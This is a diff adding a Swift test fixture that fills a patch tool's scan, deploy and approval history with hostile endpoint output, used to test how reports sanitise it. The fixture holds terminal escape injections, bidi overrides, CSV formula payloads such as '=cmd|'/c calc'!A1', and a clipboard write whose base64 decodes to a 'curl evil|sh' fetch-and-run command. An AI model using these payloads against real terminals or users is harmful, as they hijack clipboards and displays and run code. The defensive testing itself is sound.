@@ -1,0 +1,116 @@
+import Foundation
+import Testing
+@testable import PatchCore
+
+/// A history written by hostile endpoints (issue 14 #6, #7): what they said, byte for byte, in
+/// every field a report shows.
+extension GeneratedHistory {
+    enum Hostile {
+        /// OSC 0: sets the window title.
+        static let title = "\u{1B}]0;pwned\u{07}"
+        /// Clears the screen.
+        static let clear = "\u{1B}[2J"
+        /// OSC 52: writes the clipboard.
+        static let clipboard = "\u{1B}]52;c;Y3VybCBldmlsfHNo\u{07}"
+        /// Hides what follows.
+        static let conceal = "\u{1B}[8m"
+        /// The 8-bit CSI (C1).
+        static let csi8bit = "\u{9B}31m"
+        static let override = "\u{202E}"
+        static let isolate = "\u{2066}"
+        /// Every C0 but LF and NUL, DEL and every C1, in one value (NUL is issue 14 #9's: history
+        /// does not keep it yet, so it is left out here).
+        static let allControls = String(String.UnicodeScalarView((0x01...0x1F).filter { $0 != 0x0A }.compactMap(Unicode.Scalar.init)))
+            + "\u{7F}" + String(String.UnicodeScalarView((0x80...0x9F).compactMap(Unicode.Scalar.init)))
+
+        static let hostName = "web\(override)1"
+        static let package = PendingUpdate(name: "pkg\(title)\(clear)", installedVersion: "1.0\(conceal)\r2.0", availableVersion: "1.1\u{7F}\u{08}",
+                                           source: "repo\(clipboard)\(override)", security: true, architecture: "amd64")
+        /// A newline and a tab would make a row and a column of their own.
+        static let forged = PendingUpdate(name: "fake\nweb9  ok\tx", installedVersion: "1\(isolate)", availableVersion: "2\u{85}\(allControls)",
+                                          source: "src", security: false, architecture: "amd64")
+        /// Formula triggers in every text column a CSV has.
+        static let formula = PendingUpdate(name: "=cmd|'/c calc'!A1", installedVersion: "+1", availableVersion: "-2+3",
+                                           source: "@SUM(A1:A9)", security: true, architecture: "amd64")
+        static let os = OSInfo(family: .debian, id: "debian", name: "Debian\(conceal)", version: "12\(csi8bit)", codename: "bookworm")
+
+        /// Scalars a terminal acts on: C0 except the layout's newline, DEL, C1, bidi controls.
+        static func offending(_ text: String) -> [String] {
+            text.unicodeScalars.filter { scalar in
+                switch scalar.value {
+                case 0x0A: return false
+                case 0x00...0x1F, 0x7F...0x9F, 0x202A...0x202E, 0x2066...0x2069: return true
+                default: return false
+                }
+            }.map { String(format: "U+%04X", $0.value) }
+        }
+    }
+
+    struct HostileRuns {
+        var history: GeneratedHistory
+        var firstScan: String
+        var secondScan: String
+        var exec: String
+        var deploy: String
+        var inventory: String
+    }
+
+    /// Two scans of a hostile host (the second adds hostile findings; a second host fails with
+    /// remote text in its error), an exec and a deploy run, an approval request, an exception and a
+    /// library entry.
+    static func hostile() throws -> HostileRuns {
+        typealias H = Hostile
+        let history = try fresh()
+        let store = history.store
+        let plain = update("openssl", "3.0.14-1", "3.0.15-1")
+        func scanHost(_ date: Date, _ updates: [PendingUpdate]) -> HostScan {
+            HostScan(name: H.hostName, address: "10.0.0.1", port: 22, status: .ok, os: H.os, rebootRequired: false, installedCount: 10,
+                     updates: updates, startedAt: date.addingTimeInterval(-2), finishedAt: date)
+        }
+        let first = try history.scan(at: day(0), [scanHost(day(0), [plain])])
+        let second = try history.scan(at: day(1), [
+            scanHost(day(1), [plain, H.package, H.forged, H.formula]),
+            HostScan(name: "db1", address: "10.0.0.2", port: 22, status: .error, error: "remote said \(H.title)\nweb1: ok",
+                     startedAt: day(1).addingTimeInterval(-2), finishedAt: day(1)),
+        ])
+
+        let exec = try store.beginRun(kind: "exec", startedAt: day(2), inventory: "inv\(H.title).yml", hostPattern: nil, options: "uptime", version: "test")
+        try store.record(runId: exec, hosts: [
+            ExecResult(name: H.hostName, address: "10.0.0.1", port: 22, status: .ok, exitCode: 0,
+                       stdout: "up \(H.clear)3 days\r\nload\(H.clipboard)\r\n", stderr: "warn\(H.csi8bit)\nlast\rover", durationMs: 5,
+                       startedAt: day(2), finishedAt: day(2).addingTimeInterval(1)),
+            ExecResult(name: "db1", address: "10.0.0.2", port: 22, status: .unreachable, error: "connect: \(H.title)",
+                       startedAt: day(2), finishedAt: day(2).addingTimeInterval(1)),
+        ])
+        try store.finishRun(runId: exec, finishedAt: day(2).addingTimeInterval(1))
+
+        let deploy = try store.beginRun(kind: "deploy", startedAt: day(3), inventory: "inv.yml", hostPattern: nil, options: nil, version: "test",
+                                        policy: "weekly\(H.title)", user: "op\(H.conceal)")
+        var host = DeployHost(host: Host(name: H.hostName), status: .failed, ring: "canary\(H.clear)", batch: 1, error: "dpkg said \(H.title)",
+                              startedAt: day(3), finishedAt: day(3).addingTimeInterval(10))
+        host.os = H.os
+        host.planned = [PlannedUpdate(H.package), PlannedUpdate(H.forged)]
+        host.installed = [InstalledPackage(name: H.forged.name, fromVersion: H.forged.installedVersion, toVersion: H.forged.availableVersion)]
+        host.failed = [FailedPackage(name: H.package.name, fromVersion: H.package.installedVersion, targetVersion: H.package.availableVersion,
+                                     actualVersion: "0\(H.csi8bit)", reason: "E: \(H.clipboard)")]
+        host.skipped = [SkippedUpdate(name: H.forged.name, version: H.forged.availableVersion, reason: "held\(H.override)", awaitingApproval: true)]
+        host.commands = ["apt-get install \(H.title)"]
+        host.deferral = "users \(H.conceal) logged in"
+        host.repair = "dpkg --configure -a \(H.clear)"
+        try store.record(runId: deploy, hosts: [host])
+        let report = DeployReport(outcome: .finished, dryRun: false, rings: [
+            RingReport(name: "canary\(H.clear)", hosts: 1, failed: 1, state: "ran\(H.override)", note: "soak \(H.title)"),
+            RingReport(name: "prod", hosts: 0, failed: 0, state: "waiting"),
+        ], notes: ["note \(H.title)"])
+        try store.finishRun(runId: deploy, finishedAt: day(3).addingTimeInterval(10), report: JSONOutput.encode(report, pretty: false))
+
+        try store.requestApproval(policy: "weekly\(H.title)", package: H.package.name, version: H.package.availableVersion, ring: "canary\(H.clear)",
+                                  runId: deploy, at: day(3))
+        try store.decide(policy: "weekly\(H.title)", package: H.forged.name, version: "2", state: .rejected, by: "me\(H.csi8bit)",
+                         note: "no\(H.clipboard)", at: day(3))
+        _ = try store.addException(host: "web\(H.override)*", target: "pkg\(H.title)", until: day(60), reason: "vendor\(H.clipboard)\nfix",
+                                   owner: "ops\(H.conceal)", by: "me\(H.csi8bit)", at: day(1))
+        let inventory = try history.inventory(["web": [H.hostName], "db": ["db1"]])
+        return HostileRuns(history: history, firstScan: first, secondScan: second, exec: exec, deploy: deploy, inventory: inventory)
+    }
+}
